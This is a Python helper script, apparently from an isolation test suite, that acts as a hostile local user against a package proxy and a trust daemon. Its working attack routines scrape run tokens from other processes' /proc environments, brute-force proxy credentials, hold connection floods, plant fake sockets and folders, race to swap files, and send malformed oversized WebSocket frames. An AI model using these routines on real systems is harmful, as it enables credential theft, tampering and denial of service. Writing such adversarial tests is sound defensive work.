"""Another user's program: `intruder.py VERB ARGS…`. What came of it is printed as JSON; what holds on does so until SIGTERM."""

import base64
import errno
import json
import os
import re
import resource
import select
import shutil
import signal
import socket
import struct
import sys
import time

TOKEN_SIGNS = (b"http://run:", b"PIP_TRUST_RUN=")
TOKEN = re.compile(rb"http://run:([A-Za-z0-9_-]{43})@127\.0\.0\.1:(\d+)")


def outcome(action, *args):
    """The name of the error that an action fails with, else `done`."""
    try:
        action(*args)
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
    return "done"


def harvest():
    """Command lines and environments of all processes that show a run's token."""
    shown, looks = [], 0
    while not ended():
        looks += 1
        for pid in filter(str.isdigit, os.listdir("/proc")):
            for name in ("cmdline", "environ"):
                try:
                    with open("/proc/%s/%s" % (pid, name), "rb") as file:
                        text = file.read()
                except OSError:
                    continue
                if any(sign in text for sign in TOKEN_SIGNS):
                    shown.append(name)
        time.sleep(0.005)
    return {"shown": shown, "looks": looks}


def touch(*paths):
    """Reads, and writes into, every path; connects to what is a socket."""
    found = {}
    for path in paths:
        found[os.path.basename(path)] = [
            outcome(os.listdir, path),
            outcome(open, os.path.join(path, "planted"), "w"),
            outcome(open, path, "r"),
            outcome(open, path, "a"),
            outcome(os.unlink, path),
            outcome(os.rename, path, path + ".gone"),
            outcome(socket.socket(socket.AF_UNIX).connect, path),
        ]
    return found


def signals(*pids):
    return [outcome(os.kill, int(pid), signal.SIGKILL) for pid in pids]


def guess(port, count):
    """The status lines of so many guesses, and of a header beyond every limit."""
    heads = [b"Proxy-Authorization: Basic " + base64.b64encode(b"run:" + os.urandom(32)) for _ in range(int(count))]
    return sorted({ask(port, head) for head in heads + [b"X: " + b"a" * 1000000]})


def ask(port, head):
    connection = socket.create_connection(("127.0.0.1", int(port)))
    try:
        connection.sendall(b"CONNECT packages.example:443 HTTP/1.1\r\nHost: x\r\n" + head + b"\r\n\r\n")
        return connection.recv(4096).split(b"\r\n")[0].decode("latin-1")
    except OSError:
        return ""


def flood(port, count):
    """Holds as many connections as it gets, each with a request that never ends, and opens another for each that is cut."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    held, ready, opened = {}, select.epoll(), 0
    most = min(most - 64, int(count))
    while not ended():
        for _ in range(min(64, most - len(held))):
            connection = socket.socket()
            connection.setblocking(False)
            connection.connect_ex(("127.0.0.1", int(port)))
            held[connection.fileno()] = connection
            ready.register(connection.fileno(), select.EPOLLOUT | select.EPOLLRDHUP | select.EPOLLONESHOT)
            opened += 1
            if opened == int(count):
                report({"opened": opened})
        for number, event in ready.poll(0.01, 1024):
            if event & (select.EPOLLHUP | select.EPOLLERR | select.EPOLLRDHUP):
                held.pop(number).close()
                continue
            outcome(held[number].send, b"GET http://x/ HTTP/1.1\r\nX: ")
            ready.modify(number, select.EPOLLRDHUP)
    return {"opened": opened}


def plant(folder, *files):
    """Makes the folder first, open to all, with listeners that would agree to everything, and the files, which hold nothing good."""
    os.umask(0)
    os.makedirs(folder, exist_ok=True)
    for path in files:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as file:
            file.write(b"99.0.0\n" * 512)
    listeners = [listen(os.path.join(folder, name)) for name in ("shim.sock", "trustd.sock")]
    report({"planted": True})
    asked = 0
    while not ended():
        for listener in select.select(listeners, [], [], 0.05)[0]:
            connection, _ = listener.accept()
            connection.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: 20\r\n\r\n{"version":"99.0.0"}')
            asked += 1
    return {"asked": asked}


def listen(path):
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    os.chmod(path, 0o600)
    listener.listen(8)
    return listener


def links(target, *paths):
    """Gives what is at each path a second name, in a folder of one's own."""
    return [outcome(os.link, path, "%s.%d" % (target, number)) for number, path in enumerate(paths)]


def show(port, token):
    """The status line for a token."""
    return ask(port, b"Proxy-Authorization: Basic " + base64.b64encode(b"run:" + token.encode()))


def take():
    """Waits for a process that has a run's token in its environment, and gives it: only the user's own can."""
    while not ended():
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open("/proc/%s/environ" % pid, "rb") as file:
                    found = TOKEN.search(file.read())
            except OSError:
                continue
            if found:
                return {"token": found.group(1).decode(), "port": int(found.group(2))}
    return {}


def swap(folder, evil):
    """Puts other bytes in the place of each file that is held back, as soon as it is there."""
    swaps, seen = 0, set()
    report({"ready": True})
    while not ended():
        for place, _, names in os.walk(folder):
            for path in (os.path.join(place, name) for name in names):
                if path in seen or outcome(os.stat, path) != "done":
                    continue
                copy = folder + ".evil"
                shutil.copyfile(evil, copy)
                if outcome(os.rename, copy, path) == "done":
                    seen.add(path)
                    swaps += 1
    return {"swaps": swaps}


UPGRADE = (
    b"GET /v1 HTTP/1.1\r\nHost: trustd\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
MASK = b"\0\0\0\0"
PIECE = b"x" * (1 << 20)
#: RFC 6455, 5.2: a frame said to have 2 GiB, one without a mask, pieces of a message that never ends, a message of 3 MiB, none.
FRAMES = (
    b"\x81\xff" + struct.pack(">Q", 1 << 31) + MASK + PIECE,
    b"\x81\x05hello",
    b"\x01\xff" + struct.pack(">Q", len(PIECE)) + MASK + PIECE + (b"\x00\xff" + struct.pack(">Q", len(PIECE)) + MASK + PIECE) * 4,
    b"\x81\xff" + struct.pack(">Q", 3 * len(PIECE)) + MASK + 3 * PIECE,
    b"",
)


def frames(path, count):
    """Holds so many sessions with the daemon, each with a frame that is too much for it; opens no other for those that are cut."""
    held = []
    for number in range(int(count)):
        connection = socket.socket(socket.AF_UNIX)
        connection.settimeout(5)
        connection.connect(path)
        held.append(connection)
        outcome(connection.sendall, UPGRADE)
        connection.settimeout(1)
        outcome(connection.sendall, FRAMES[number % len(FRAMES)])
        connection.setblocking(False)
    report({"opened": len(held)})
    cut = 0
    while not ended():
        for connection in select.select(held, [], [], 0.05)[0]:
            if not heard(connection):
                held.remove(connection)
                cut += 1
    return {"cut": cut}


def heard(connection):
    try:
        return connection.recv(65536)
    except BlockingIOError:
        return b" "
    except OSError:
        return b""


def replace(folder):
    """Puts a folder of one's own in the place of another user's."""
    return [outcome(os.rename, folder, folder + ".gone"), outcome(os.mkdir, folder, 0o777)]


def report(found):
    print(json.dumps(found), flush=True)


def ended(state=[]):
    if not state:
        state.append(False)
        signal.signal(signal.SIGTERM, lambda *_: state.__setitem__(0, True))
    return state[0]


ended()
VERBS = (harvest, touch, signals, guess, flood, plant, replace, links, show, take, swap, frames)
report({verb.__name__: verb for verb in VERBS}[sys.argv[1]](*sys.argv[2:]))
